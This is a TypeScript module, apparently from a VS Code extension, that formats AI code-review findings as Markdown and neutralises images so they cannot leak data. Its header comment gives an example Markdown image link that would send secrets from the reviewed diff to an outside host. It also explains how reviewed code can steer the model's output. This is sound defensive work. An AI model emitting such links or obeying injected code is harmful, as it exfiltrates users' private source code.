/**
 * The Markdown of a review finding's comment thread. The title and comment
 * are the model's, steerable by the code it reviewed, and VS Code renders a
 * comment's Markdown images by fetching them: `![](https://host/?q=<secret
 * from the diff>)` would send the reviewed code to that host as soon as the
 * thread is shown, without a click. So they are made inert (images become
 * links, see protocol/inertMarkdown.ts), and nothing else changes.
 *
 * This module does not import `vscode`, so the body is unit-tested directly.
 */
import type { ReviewFinding } from '../../protocol/lspMethods';
import { inertInlineMarkdown, inertMarkdown } from '../../protocol/inertMarkdown';
import { fenceFor } from '../../protocol/markdownFence';

/** The comment's Markdown: the title in bold, the model's comment, and the fix fenced so its code cannot close the fence. */
export function reviewCommentBody(finding: Pick<ReviewFinding, 'title' | 'comment' | 'fix'>): string {
  // The title follows `**` on its line, where a fence is no fence: all of it is made inert.
  const parts = [`**${inertInlineMarkdown(finding.title.replace(/\s+/g, ' '))}**`];
  if (finding.comment) parts.push(inertMarkdown(finding.comment));
  if (finding.fix) {
    // Inside a fence `![` is code, never an image, so the fix is shown exactly as it will be applied.
    const fence = fenceFor(finding.fix.newText);
    parts.push(`Suggested change (**Apply Fix** shows it as a diff):\n\n${fence}\n${finding.fix.newText}\n${fence}`);
  }
  return parts.join('\n\n');
}
